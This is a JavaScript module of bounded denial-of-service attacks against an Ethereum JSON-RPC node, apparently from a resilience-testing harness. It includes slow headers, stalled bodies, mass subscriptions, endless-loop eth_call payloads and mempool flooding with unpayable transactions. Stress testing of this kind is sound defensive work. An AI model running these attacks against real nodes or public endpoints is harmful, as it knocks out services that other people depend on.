// The attacks. Each runs in a process of its own until a time, with bounded numbers of everything, and tells what it did.
import { privateKeyToAccount } from 'viem/accounts'
import { ask, head, keepOpen, post, sleep, tcp, webSocket } from './connect.mjs'

const MB = 2 ** 20
/** One for all: what waits to be sent must not fill the attacker's own memory. */
const SPACES = Buffer.alloc(9.9 * MB, ' ')
const LETTERS = Buffer.alloc(MB, 'x')
const openTcp = (socket) => !socket.destroyed
const openWs = (socket) => socket.readyState === socket.OPEN
/** The attacker's own address, where it is not to share that of the honest client. */
const other = { from: '127.0.0.2' }

/** Sends requests from `lanes` lanes, one after the other in each. */
async function lanes(target, count, next, pauseMs = 0) {
  let sent = 0
  let answered = 0
  let refused = 0
  const abort = new AbortController()
  setTimeout(() => abort.abort(), Math.max(0, target.until - Date.now())).unref()
  await Promise.all(
    Array.from({ length: count }, async (_, lane) => {
      while (Date.now() < target.until) {
        sent++
        const answer = await post({ ...target, signal: abort.signal }, next(lane, sent))
        if (answer?.result !== undefined || Array.isArray(answer)) answered++
        else refused++
        await sleep(answer === undefined ? 200 : pauseMs)
      }
    }),
  )
  return { sent, answered, refused }
}

/** Loops for as long as there is gas. */
const LOOP = '0x5b5f56'
/** Emits empty logs until little gas is left. */
const LOGS = '0x5b5f5fa05a612710105f5700'

/** Signs as one of the funded users. */
const signer = (target, user) => {
  const account = privateKeyToAccount(target.users[user].privateKey)
  return (fields) =>
    account.signTransaction({
      type: 'eip1559',
      chainId: target.chainId,
      maxFeePerGas: 100_000_000_000n,
      maxPriorityFeePerGas: 1_000_000n,
      ...fields,
    })
}
const nonceOf = async (target, user, tag = 'pending') =>
  Number((await post(target, ask('eth_getTransactionCount', [target.users[user].address, tag])))?.result ?? 0)

/** What the pool takes although no block will: above the lowest base fee that there can be, far below the one that there is. Wei per gas. */
const UNPAYABLE = 1_000n

/** A transaction of 130 KB that costs nothing and is not included. */
const freeTransaction = (sign, nonce, bytes) =>
  sign({
    to: '0x00000000000000000000000000000000000000aa',
    nonce,
    gas: 6_000_000n,
    maxFeePerGas: UNPAYABLE,
    maxPriorityFeePerGas: 1n,
    data: `0x${'00'.repeat(bytes)}`,
  })

async function subscribers(target, sockets, each, params, onOpen = () => {}) {
  let received = 0
  const reasons = new Map()
  const open = async () => {
    const socket = await webSocket({ ...target, ...other })
    if (!socket) return undefined
    socket.on('message', (data) => (received += data.length))
    socket.on('close', (code, reason) => {
      const text = `${code} ${reason}`
      reasons.set(text, (reasons.get(text) ?? 0) + 1)
    })
    for (let i = 0; i < each; i++) if (openWs(socket)) socket.send(ask('eth_subscribe', params, i))
    onOpen(socket)
    return socket
  }
  const result = await keepOpen({ ...target, count: sockets, perSecond: 100, open, isOpen: openWs })
  return { ...result, receivedMB: Math.round(received / MB), closed: Object.fromEntries(reasons) }
}

/** Sends one large free transaction a second. */
async function freeTransactions(target, user, bytes) {
  const sign = signer(target, user)
  let nonce = await nonceOf(target, user)
  let accepted = 0
  await sleep(2_000)
  while (Date.now() < target.until) {
    const answer = await post(
      target,
      ask('eth_sendRawTransaction', [await freeTransaction(sign, nonce, bytes)]),
    )
    if (answer?.result) {
      accepted++
      nonce++
    }
    await sleep(1_000)
  }
  return accepted
}

/** Blocks full of logs. */
async function logBlocks(target, user, gas) {
  const sign = signer(target, user)
  let nonce = await nonceOf(target, user)
  while (Date.now() < target.until) {
    const raw = await sign({ nonce, gas, data: LOGS })
    if ((await post(target, ask('eth_sendRawTransaction', [raw])))?.result) nonce++
    await sleep(2_000)
  }
  return nonce
}

/** 128 MB of transactions that can never be included, from eight accounts. Returns how many were taken. */
async function fillPool(target, megabytes, bytes = 126_000) {
  let taken = 0
  const count = Math.ceil((megabytes * MB) / bytes / 8)
  for (let user = 2; user < 10 && Date.now() < target.until; user++) {
    const sign = signer(target, user)
    const nonce = await nonceOf(target, user)
    for (let i = 0; i < count && Date.now() < target.until; i += 16) {
      const raws = await Promise.all(
        Array.from({ length: Math.min(16, count - i) }, (_, j) =>
          freeTransaction(sign, nonce + i + j, bytes),
        ),
      )
      const answers = await post(
        target,
        `[${raws.map((raw, id) => ask('eth_sendRawTransaction', [raw], id)).join(',')}]`,
      )
      if (Array.isArray(answers)) taken += answers.filter(({ result }) => result).length
    }
  }
  return taken
}

const call = (code, gas = '0x2faf080') => [
  {
    from: '0x00000000000000000000000000000000000000aa',
    to: '0x00000000000000000000000000000000000000bb',
    gas,
  },
  'latest',
  { '0x00000000000000000000000000000000000000bb': { code } },
]

const stalledBodies = (options) => (target) =>
  keepOpen({
    ...target,
    count: 300,
    perSecond: 40,
    isOpen: openTcp,
    open: async () => {
      const socket = await tcp({ ...target, ...options })
      socket?.resume()
      socket?.write(head(10 * MB))
      // All but the end.
      socket?.write(SPACES)
      return socket
    },
  })

const idleConnections = (options) => (target) =>
  keepOpen({
    ...target,
    count: 1_100,
    perSecond: 1_000,
    isOpen: openTcp,
    open: () => tcp({ ...target, ...options }),
  })
const idleSockets = (options) => (target) =>
  keepOpen({
    ...target,
    count: 1_100,
    perSecond: 400,
    isOpen: openWs,
    open: () => webSocket({ ...target, ...options }),
  })

export const attacks = {
  none: {
    point: '-',
    help: 'nothing: the measure of the machine',
    run: ({ until }) => sleep(until - Date.now()),
  },
  'stalled-bodies': {
    point: 'C.2',
    small: true,
    help: '300 bodies of 10 MB that never end, from another address',
    run: stalledBodies(other),
  },
  'stalled-bodies-same': {
    point: 'C.2',
    help: 'the same from the address of the honest client',
    run: stalledBodies({}),
  },
  'unfinished-messages': {
    point: 'C.2',
    help: '150 WebSocket messages of 9 MB that never end',
    run: (target) =>
      keepOpen({
        ...target,
        count: 150,
        perSecond: 20,
        isOpen: openWs,
        open: async () => {
          const socket = await webSocket({ ...target, ...other })
          for (let i = 0; i < 9; i++) if (socket && openWs(socket)) socket.send(LETTERS, { fin: false })
          return socket
        },
      }),
  },
  braces: {
    point: 'C.2',
    help: 'valid bodies of 10 MB of {}, five at once',
    run(target) {
      const body = `[${'{},'.repeat(3_300_000)}{}]`
      return lanes(target, 5, () => body, 100)
    },
  },
  'pending-subscriptions': {
    point: 'C.3',
    help: '10,000 subscriptions to whole pending transactions, and free ones of 130 KB',
    async run(target) {
      const free = freeTransactions(target, 1, 126_000)
      const result = await subscribers(target, 100, 100, ['newPendingTransactions', true])
      return { ...result, accepted: await free }
    },
  },
  'log-subscriptions': {
    point: 'C.3',
    small: true,
    help: '10,000 subscriptions to logs, and 15 M gas of logs',
    async run(target) {
      const sent = logBlocks(target, 1, 15_000_000n)
      const result = await subscribers(target, 100, 100, ['logs', {}])
      await sent
      return result
    },
  },
  'deaf-subscriptions': {
    point: 'C.3',
    help: '100 sockets that subscribe to logs and never read',
    async run(target) {
      const sent = logBlocks(target, 1, 8_000_000n)
      const result = await subscribers(target, 100, 2, ['logs', {}], (socket) =>
        setTimeout(() => socket.pause(), 500),
      )
      await sent
      return result
    },
  },
  filters: {
    point: 'C.4',
    small: true,
    help: 'filters that are never polled, 200 a second',
    run: (target) => lanes(target, 4, () => ask('eth_newFilter', [{}]), 20),
  },
  'batch-of-logs': {
    point: 'C.4',
    help: 'batches of 1,000 wide eth_getLogs, four at once',
    run(target) {
      const one = (id) =>
        ask('eth_getLogs', [{ fromBlock: '0x0', toBlock: 'latest', address: `0x${'00'.repeat(20)}` }], id)
      const body = `[${Array.from({ length: 1_000 }, (_, id) => one(id)).join(',')}]`
      return lanes(target, 4, () => body)
    },
  },
  'log-answers': {
    point: 'C.15',
    help: 'blocks of 36,000 logs, their receipts asked for four at once',
    async run(target) {
      const sent = logBlocks(target, 1, 15_000_000n)
      const result = await lanes(target, 4, (_, i) =>
        i % 2
          ? ask('eth_getBlockReceipts', ['latest'])
          : ask('eth_getLogs', [{ fromBlock: 'latest', toBlock: 'latest' }]),
      )
      await sent
      return result
    },
  },
  'slow-headers': {
    point: 'C.15',
    help: '1,500 connections that send a byte of their headers a second',
    run: (target) =>
      keepOpen({
        ...target,
        count: 1_500,
        perSecond: 1_000,
        isOpen: openTcp,
        open: async () => {
          const socket = await tcp({ ...target, ...other })
          socket?.write('POST / HTTP/1.1\r\n')
          const timer = setInterval(() => (openTcp(socket) ? socket.write('X') : clearInterval(timer)), 1_000)
          return socket
        },
      }),
  },
  'slow-readers': {
    point: 'C.15',
    help: '1,500 connections that ask for large answers and do not read',
    async run(target) {
      const sent = logBlocks(target, 1, 15_000_000n)
      await sleep(3_000)
      const body = ask('eth_getBlockReceipts', ['latest'])
      const result = await keepOpen({
        ...target,
        count: 1_500,
        perSecond: 200,
        isOpen: openTcp,
        open: async () => {
          const socket = await tcp({ ...target, ...other })
          socket?.pause()
          socket?.write(head(body.length) + body)
          return socket
        },
      })
      await sent
      return result
    },
  },
  pipelining: {
    point: 'C.15',
    help: '2,000 requests at once on one connection, again and again',
    async run(target) {
      const body = ask('eth_getBlockByNumber', ['latest', false])
      const requests = (head(body.length) + body).repeat(2_000)
      let rounds = 0
      while (Date.now() < target.until) {
        const socket = await tcp({ ...target, ...other })
        if (!socket) continue
        let answers = 0
        socket.on('data', (data) => (answers += data.toString('latin1').split('"jsonrpc"').length - 1))
        socket.write(requests)
        while (answers < 2_000 && openTcp(socket) && Date.now() < target.until) await sleep(50)
        if (answers >= 2_000) rounds++
        socket.destroy()
        await sleep(500)
      }
      return { rounds }
    },
  },
  connections: {
    point: 'C.13',
    help: '1,100 idle connections from another address',
    run: idleConnections(other),
  },
  'connections-same': {
    point: 'C.13',
    small: true,
    help: 'the same from the address of the honest client',
    run: idleConnections({}),
  },
  websockets: { point: 'C.13', help: '1,100 idle WebSockets from another address', run: idleSockets(other) },
  'websockets-same': {
    point: 'C.13',
    help: 'the same from the address of the honest client',
    run: idleSockets({}),
  },
  'loop-call': {
    point: 'C.1',
    help: 'eth_call of an endless loop, four at once',
    run: (target) => lanes(target, 4, () => ask('eth_call', call(LOOP))),
  },
  'loop-access-list': {
    point: 'C.1',
    help: 'eth_createAccessList of an endless loop, four at once',
    run: (target) =>
      lanes(target, 4, () => ask('eth_createAccessList', [{ data: LOOP, gas: '0x2faf080' }, 'latest'])),
  },
  'loop-trace': {
    point: 'C.1',
    help: 'debug_traceCall of an endless loop, four at once',
    run: (target) =>
      lanes(target, 4, () =>
        ask('debug_traceCall', [{ data: LOOP, gas: '0x2faf080' }, 'latest', { tracer: 'callTracer' }]),
      ),
  },
  'loop-transaction': {
    point: 'C.1',
    help: 'debug_traceTransaction of one that used up 15 M gas, four at once',
    async run(target) {
      const raw = await signer(target, 1)({ nonce: await nonceOf(target, 1), gas: 15_000_000n, data: LOOP })
      const hash = (await post(target, ask('eth_sendRawTransaction', [raw])))?.result
      while (
        !(await post(target, ask('eth_getTransactionReceipt', [hash])))?.result &&
        Date.now() < target.until
      )
        await sleep(100)
      return lanes(target, 4, (_, i) =>
        ask('debug_traceTransaction', i % 2 ? [hash, {}] : [hash, { tracer: 'callTracer' }]),
      )
    },
  },
  'pool-content': {
    point: 'C.10',
    help: '128 MB that can never be included in the pool, then txpool_content, sixteen at once',
    lasting: true,
    seconds: 40,
    async run(target) {
      const taken = await fillPool({ ...target, until: target.until - 15_000 }, 128)
      return { taken, ...(await lanes(target, 16, () => ask('txpool_content'))) }
    },
  },
  'pool-filling': {
    point: 'C.9',
    help: 'ten accounts with up to 5,000 transactions each that can never be included',
    lasting: true,
    burst: true,
    seconds: 40,
    async run(target) {
      let taken = 0
      for (let user = 1; user < 10; user++) {
        const sign = signer(target, user)
        const nonce = await nonceOf(target, user)
        for (let i = 0; i < 5_000 && Date.now() < target.until; i += 100) {
          const raws = await Promise.all(
            Array.from({ length: 100 }, (_, j) =>
              sign({
                to: target.users[user].address,
                nonce: nonce + i + j,
                gas: 21_000n,
                maxFeePerGas: UNPAYABLE,
                maxPriorityFeePerGas: 0n,
              }),
            ),
          )
          const answers = await post(
            target,
            `[${raws.map((raw, id) => ask('eth_sendRawTransaction', [raw], id)).join(',')}]`,
          )
          const fresh = Array.isArray(answers) ? answers.filter(({ result }) => result).length : 0
          taken += fresh
          if (fresh === 0) break
        }
      }
      while (Date.now() < target.until) await sleep(200)
      return { taken }
    },
  },
}
